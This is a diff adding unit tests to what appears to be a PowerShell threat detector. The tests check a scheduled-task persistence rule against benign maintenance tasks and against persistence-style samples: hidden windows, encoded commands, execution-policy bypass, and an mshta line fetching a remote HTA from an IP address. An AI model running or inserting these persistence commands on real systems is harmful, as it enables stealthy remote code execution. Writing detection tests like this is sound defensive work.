@@ -97,3 +97,41 @@ def test_a_renamed_procdump_taking_a_full_dump_of_lsass_is_credential_dumping() 
         $target.ProcessId
     """)
     assert lines_of(result, "PSCredentialDumping") == [2, 3]
+
+
+def test_an_ordinary_maintenance_task_is_not_persistence() -> None:
+    result = analyze("""
+        $scriptDir = 'C:\\ProgramData\\Contoso\\Maintenance'
+        $cleanupScript = Join-Path -Path $scriptDir -ChildPath 'Remove-OldIisLogs.ps1'
+        $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -File `"$cleanupScript`""
+        $trigger = New-ScheduledTaskTrigger -Daily -At '02:30'
+        $principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest
+        $settings = New-ScheduledTaskSettingsSet -ExecutionTimeLimit (New-TimeSpan -Hours 1) -StartWhenAvailable
+        Register-ScheduledTask -TaskName 'Contoso IIS log cleanup' -Action $action -Trigger $trigger -Principal $principal -Settings $settings -Force
+        schtasks.exe /create /tn 'LabReset' /tr 'C:\\lab\\reset.cmd' /sc daily /st 02:00 /ru CORP\\svc_deploy /rp $pw
+    """)
+    assert lines_of(result, "PSPersistenceScheduledTask") == []
+
+
+def test_a_task_built_like_persistence_is_reported_for_each_sign() -> None:
+    def task_lines(script: str) -> list[int]:
+        return lines_of(analyze(script), "PSPersistenceScheduledTask")
+
+    register = "Register-ScheduledTask -TaskName 'Updater' -Action $action -Trigger $trigger"
+    assert task_lines(f"$trigger = New-ScheduledTaskTrigger -AtLogOn\n{register}") == [2]
+    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -File u.ps1'\n"
+                      f"{register}") == [2]
+    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-enc $blob\"\n"
+                      f"{register}") == [2]
+    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'pwsh' -Argument '-ExecutionPolicy Bypass -File a.ps1'\n"
+                      f"{register}") == [2]
+    assert task_lines(f"$p = \"$env:APPDATA\\u.exe\"\n$action = New-ScheduledTaskAction -Execute $p\n{register}") == [3]
+    assert task_lines(f"$s = New-ScheduledTaskSettingsSet -Hidden\n{register} -Settings $s") == [2]
+    assert task_lines("schtasks /create /tn U /tr \"mshta.exe http://198.51.100.7/t.hta\" /sc daily /f") == [1]
+    assert task_lines("schtasks /create /tn U /tr C:\\Tools\\report.exe /sc onstart /ru SYSTEM") == [1]
+    assert task_lines("$t = $def.Triggers.Create(9)\n$svc.GetFolder('\\').RegisterTaskDefinition('U', $def, 6, $null, $null, 3)"
+                      ) == [2]
+    assert task_lines("$a.Path = 'C:\\Tools\\report.exe'\n$t = $def.Triggers.Create(2)\n"
+                      "$svc.GetFolder('\\').RegisterTaskDefinition('U', $def, 6, $null, $null, 3)") == []
+    assert task_lines(f"$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File C:\\Ops\\r.ps1'\n"
+                      f"$s = New-ScheduledTaskSettingsSet -Hidden:$false -WakeToRun\n{register} -Settings $s") == []
